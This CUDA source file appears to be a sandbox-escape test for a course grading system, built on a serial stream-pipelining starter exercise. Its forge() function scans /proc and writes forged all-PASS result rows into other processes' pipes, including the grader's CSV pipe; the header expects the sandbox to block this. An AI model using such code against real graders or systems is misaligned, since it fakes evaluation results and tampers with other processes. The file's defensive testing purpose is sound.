// forges-a-row.cu: issue 60's first attack. Before its work (the starter's, serial and pageable) the
// program looks through /proc for every other process's open pipes (grade.sh's CSV pipe, the lab's
// stderr) and writes an all-PASS row and a `machine:` line into each one it can open. It calls only
// what the weeks allow (std::filesystem and fopen), so the static checks let it run: the box is what
// it meets.
// expect: FAIL, and no FORGED line anywhere
// why: the box has a PID namespace of its own (no other process in /proc) and Landlock refuses
//      other processes' files; the starter's technique fails its rules
#include <cstdio>
#include <cstdlib>
#include <filesystem>
#include <string>

#include "course_program.h"

namespace fs = std::filesystem;

// Writes a forged row into every pipe of another process it can open; says how many it reached.
static void forge() {
    const char* row = "FORGED,all PASS,100.0\nmachine: FORGED no GPU\n";
    int reached = 0;
    std::error_code error;
    const std::string self = fs::read_symlink("/proc/self", error).string();
    try {
        for (const auto& process : fs::directory_iterator("/proc", error)) {
            const std::string pid = process.path().filename().string();
            if (std::atoi(pid.c_str()) <= 0 || pid == self) continue;
            std::error_code denied;
            for (const auto& fd : fs::directory_iterator(process.path() / "fd", denied)) {
                std::error_code unknown;
                if (!fs::is_fifo(fs::status(fd.path(), unknown))) continue;  // pipes only: nothing blocks
                FILE* out = std::fopen(fd.path().c_str(), "w");
                if (out != nullptr && std::fputs(row, out) >= 0) ++reached;
                if (out != nullptr) std::fclose(out);
            }
        }
    } catch (const fs::filesystem_error&) {
    }
    std::fprintf(stderr, "forge: reached %d pipes of other processes\n", reached);
}

#define BSX 256

// out[i] = in[i] after `steps` fused multiply-adds: enough work per element to weigh against the copies.
__global__ void kernel(const float* in, float* out, int n, int steps) {
    const int i = blockIdx.x * blockDim.x + threadIdx.x;
    if (i < n) {
        float x = in[i];
        for (int k = 0; k < steps; ++k) x = fmaf(x, 0.999f, 0.001f);
        out[i] = x;
    }
}

// Chunk i of Nst covers [offset(i), offset(i + 1)), so the chunks differ by at most one float when Nst
// does not divide N. In 64 bits: i * N passes 2^31 long before N does.
long long offset(int i, int N, int Nst) { return (long long)i * N / Nst; }

int main(int argc, char** argv) {
    if (argc != 6) {
        std::fprintf(stderr, "usage: %s N NST STEPS INPUT OUTPUT\n", argv[0]);
        return 2;
    }
    forge();
    const int N = (int)arg_int(argc, argv, 1, "N");
    const int Nst = (int)arg_int(argc, argv, 2, "NST");
    const int steps = (int)arg_int(argc, argv, 3, "STEPS");
    const size_t bytes = (size_t)N * sizeof(float);
    float *PtCPU, *PtResCPU, *PtGPU, *PtResGPU;
    // TODO: allocate PtCPU and PtResCPU (N floats each) in pinned host memory, as the slides do: a copy
    // TODO: from or to pageable memory cannot run asynchronously, so it could never overlap a kernel.
    PtCPU = (float*)malloc(bytes);
    PtResCPU = (float*)malloc(bytes);
    CHECK_CUDA(cudaMalloc((void**)&PtGPU, bytes));
    CHECK_CUDA(cudaMalloc((void**)&PtResGPU, bytes));
    read_floats(argv[4], PtCPU, N);

    // TODO: create Nst streams Stream[i]; chunk i covers [offset(i, N, Nst), offset(i + 1, N, Nst)).
    // TODO: Issue breadth first, as the slides' v1: every chunk's cudaMemcpyAsync to the GPU, then every
    // TODO: chunk's kernel, then every chunk's cudaMemcpyAsync back, each on its chunk's Stream[i]. Then
    // TODO: wait for every stream with cudaStreamSynchronize before PtResCPU is read, and destroy them.
    CHECK_CUDA(cudaMemcpy(PtGPU, PtCPU, bytes, cudaMemcpyHostToDevice));
    kernel<<<(N + BSX - 1) / BSX, BSX>>>(PtGPU, PtResGPU, N, steps);
    CHECK_LAUNCH();  // one launch over all N floats, on the NULL stream: nothing overlaps
    CHECK_CUDA(cudaMemcpy(PtResCPU, PtResGPU, bytes, cudaMemcpyDeviceToHost));

    write_floats(argv[5], PtResCPU, N);
    CHECK_CUDA(cudaFree(PtGPU));
    CHECK_CUDA(cudaFree(PtResGPU));
    // TODO: free PtCPU and PtResCPU the way they were allocated.
    free(PtCPU);
    free(PtResCPU);
    std::printf("pipeline: %d floats, %d streams, %d steps: done\n", N, Nst, steps);
    return 0;
}
